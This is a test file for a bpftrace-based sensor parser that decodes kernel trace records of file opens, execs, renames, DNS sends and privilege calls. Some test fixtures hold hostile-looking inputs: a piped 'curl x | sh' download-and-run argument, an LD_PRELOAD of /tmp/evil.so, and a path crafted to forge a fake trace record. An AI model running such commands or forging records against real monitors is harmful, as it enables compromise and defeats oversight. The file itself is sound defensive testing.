import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { BpftraceParser, unescapeR } from '../../src/sensors/bpftrace/parser.js';
import type { RawRecord, SensorSignal } from '../../src/sensors/raw.js';

const TOK = 'abcdef0123456789';
const S = '\x1f';
const end = `${S}${TOK}\n`;

function parse(chunks: string[]): { recs: RawRecord[]; sigs: SensorSignal[]; p: BpftraceParser } {
  const recs: RawRecord[] = [];
  const sigs: SensorSignal[] = [];
  const p = new BpftraceParser(TOK, (r) => recs.push(r), (s) => sigs.push(s));
  for (const c of chunks) p.push(c);
  return { recs, sigs, p };
}

const open = (path: string, ret = 3, tid = 7) => `O${S}1000${S}7${S}${tid}${S}-100${S}0${S}0${S}${ret}${S}${path}${end}`;

describe('bpftrace output parser', () => {
  it('parses an open record', () => {
    const { recs } = parse([open('/etc/passwd')]);
    expect(recs).toEqual([{ t: 'open', ns: 1000n, pid: 7, tid: 7, dfd: -100, flags: 0, mode: 0, ret: 3, path: '/etc/passwd', truncated: undefined }]);
  });

  it('reassembles records split across chunks at any byte', () => {
    const text = open('/a/b') + open('/c/d');
    for (let i = 1; i < text.length; i++) {
      const { recs } = parse([text.slice(0, i), text.slice(i)]);
      expect(recs.map((r) => (r as { path: string }).path)).toEqual(['/a/b', '/c/d']);
    }
  });

  it('keeps a newline inside a path and cannot be fooled by a forged record in it', () => {
    const evil = `/tmp/x\nO${S}1${S}7${S}7${S}-100${S}0${S}0${S}3${S}/forged${S}notthetoken\nLost 99 events`;
    const { recs, sigs } = parse([open(evil)]);
    expect(recs).toHaveLength(1);
    expect((recs[0] as { path: string }).path).toBe(evil);
    expect(sigs.filter((s) => s.s === 'lost')).toHaveLength(0);
  });

  it('keeps \\x1f inside the string field without shifting fields', () => {
    const { recs } = parse([open(`/tmp/a${S}b${S}c`, 5)]);
    expect(recs[0]).toMatchObject({ ret: 5, path: `/tmp/a${S}b${S}c` });
  });

  it('decodes UTF-8 paths delivered as latin1', () => {
    const utf8 = Buffer.from('/tmp/héllo-✓', 'utf8').toString('latin1');
    const { recs } = parse([open(utf8)]);
    expect((recs[0] as { path: string }).path).toBe('/tmp/héllo-✓');
  });

  it('appends continuation pieces only to full-length strings', () => {
    const first = 'a'.repeat(199);
    const cont = `+${S}7${S}0${S}1${S}bbb${end}`;
    expect((parse([cont + open(first)]).recs[0] as { path: string }).path).toBe(first + 'bbb');
    // a spurious continuation before a short string is ignored
    expect((parse([cont + open('/short')]).recs[0] as { path: string }).path).toBe('/short');
  });

  it('flags a string whose every continuation piece is full as truncated', () => {
    const full = 'x'.repeat(199);
    let pre = '';
    for (let i = 1; i <= 5; i++) pre += `+${S}7${S}0${S}${i}${S}${full}${end}`;
    const r = parse([pre + open(full)]).recs[0] as { path: string; truncated?: boolean };
    expect(r.path.length).toBe(199 * 6);
    expect(r.truncated).toBe(true);
  });

  it('assembles argv, long arguments and LD_PRELOAD into the exec record', () => {
    const long = 'c'.repeat(199);
    const text =
      `A${S}9${S}0${S}sh${end}` +
      `A${S}9${S}1${S}-c${end}` +
      `A${S}9${S}2${S}${long}${end}` +
      `V${S}9${S}LD_PRELOAD=/tmp/evil.so${end}` +
      `+${S}9${S}102${S}1${S}; curl x | sh${end}` +
      `E${S}5${S}9${S}9${S}1${S}1000${S}1000${S}0${S}/bin/sh${end}`;
    const r = parse([text]).recs[0] as Extract<RawRecord, { t: 'exec' }>;
    expect(r.argv).toEqual(['sh', '-c', long + '; curl x | sh']);
    expect(r.ldPreload).toBe('/tmp/evil.so');
    expect(r.filename).toBe('/bin/sh');
    expect(r.candidate).toBe(false);
  });

  it('a failed exec attempt does not leak its argv into the next one', () => {
    const text =
      `A${S}9${S}0${S}first${end}A${S}9${S}1${S}x${end}` +
      `A${S}9${S}0${S}second${end}` +
      `E${S}5${S}9${S}9${S}1${S}0${S}0${S}0${S}/bin/second${end}`;
    expect((parse([text]).recs[0] as { argv: string[] }).argv).toEqual(['second']);
  });

  it('pairs rename source and destination', () => {
    const text = `m${S}7${S}-100${S}a.tmp${end}M${S}1${S}7${S}7${S}-100${S}0${S}a.txt${end}`;
    expect(parse([text]).recs[0]).toMatchObject({ t: 'frename', oldpath: 'a.tmp', newpath: 'a.txt' });
  });

  it('joins a DNS query payload to its send', () => {
    const q = Buffer.from('1234010000010000000000000474657374000001000001', 'hex');
    const esc = [...q].map((b) => (b >= 0x20 && b < 0x7f ? String.fromCharCode(b) : `\\x${b.toString(16).padStart(2, '0')}`)).join('');
    const text = `S${S}1${S}7${S}7${S}3${S}2${S}53${S}${q.length}${S}127.0.0.1${end}Q${S}7${S}0${S}${q.length}${S}${esc}${end}`;
    const r = parse([text]).recs[0] as Extract<RawRecord, { t: 'send' }>;
    expect(r.payload?.equals(q)).toBe(true);
  });

  it('reports kernel loss lines and counts garbage without throwing', () => {
    const { sigs, p } = parse(['Lost 12 events\n', 'garbage line\n', `O${S}x${end}`, `Z${end}`]);
    expect(sigs.find((s) => s.s === 'lost')).toEqual({ s: 'lost', count: 12, source: 'kernel' });
    expect(p.errors).toBeGreaterThanOrEqual(2);
  });

  it('never throws on arbitrary input', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { maxLength: 20 }), (chunks) => {
        parse(chunks.map((c) => c.replace(/TOKEN/g, TOK)));
      }),
      { numRuns: 300 },
    );
  });

  it('never throws on records with random fields', () => {
    const types = 'EFXORMUYKTHWZDICcNSPBLGJuAaV+mykzQ^!';
    fc.assert(
      fc.property(fc.constantFrom(...types.split('')), fc.array(fc.string(), { maxLength: 12 }), (t, fields) => {
        parse([`${t}${S}${fields.join(S)}${end}`]);
      }),
      { numRuns: 500 },
    );
  });
});

describe('%r unescaping', () => {
  it('turns \\xNN into bytes and keeps printable text', () => {
    expect([...unescapeR('a\\x00b\\xffc')]).toEqual([0x61, 0, 0x62, 0xff, 0x63]);
  });
});

describe('bpftrace records of the privilege and namespace calls, and renames', () => {
  it('decodes setid, setns, unshare, userfaultfd, socket, a comm rename and clock calls', () => {
    const records: RawRecord[] = [];
    const p = new BpftraceParser('tok', (r) => records.push(r), () => {});
    const S = '\x1f';
    const line = (fields: Array<string | number>) => fields.join(S) + `${S}tok\n`;
    p.push(line(['h', 5, 10, 11, 117, 0, 0, 1000, 1000, 0, 0]));
    p.push(line(['n', 5, 10, 11, 3, 0x40000000, 0]));
    p.push(line(['x', 5, 10, 11, 0x10020000, 0, 0]));
    p.push(line(['f', 5, 10, 11, 0, 4]));
    p.push(line(['o', 5, 10, 11, 17, 3, 768, 5]));
    p.push(line(['R', 5, 10, 11, 'claude']));
    p.push(line(['q', 5, 10, 11, 227, 0, 0, 0]));
    p.push(line(['q', 5, 10, 11, 305, 0, 0x2100, -1]));
    p.push(line(['q', 5, 10, 11, 159, 0, 0, 5]));
    expect(records).toMatchObject([
      { t: 'setid', call: 'setresuid', ret: 0, before: { uid: 1000, euid: 1000 }, after: { uid: 0, euid: 0 } },
      { t: 'setns', fd: 3, nstype: 0x40000000, ret: 0 },
      { t: 'unshare', flags: 0x10020000, via: 'unshare' },
      { t: 'userfaultfd', ret: 4 },
      { t: 'socket', family: 17, type: 3, protocol: 768, ret: 5 },
      { t: 'rename', pid: 10, tid: 11, comm: 'claude' },
      { t: 'clock', call: 'clock_settime', clock: 0, modes: undefined, ret: 0, sets: true },
      { t: 'clock', call: 'clock_adjtime', modes: 0x2100, ret: -1, sets: true },
      { t: 'clock', call: 'adjtimex', modes: 0, ret: 5, sets: false },
    ]);
  });
});
